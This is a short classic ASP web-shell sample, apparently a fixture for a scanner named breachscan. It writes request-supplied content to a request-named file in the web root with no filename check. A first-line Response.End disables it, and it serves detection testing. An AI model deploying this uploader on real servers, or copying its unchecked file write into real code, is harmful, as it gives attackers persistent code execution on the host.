<%
' synthetic test sample for breachscan: request text written to a request-named file. Inert: Response.End first.
Response.End
Dim fn, body
fn = request("filename")
body = request("body")
Set st = Server.CreateObject("ADODB.Stream")
st.Open : st.Charset = "utf-8"
st.WriteText = request("body")
st.SaveToFile Server.MapPath(".") & "\" & fn, 2
%>
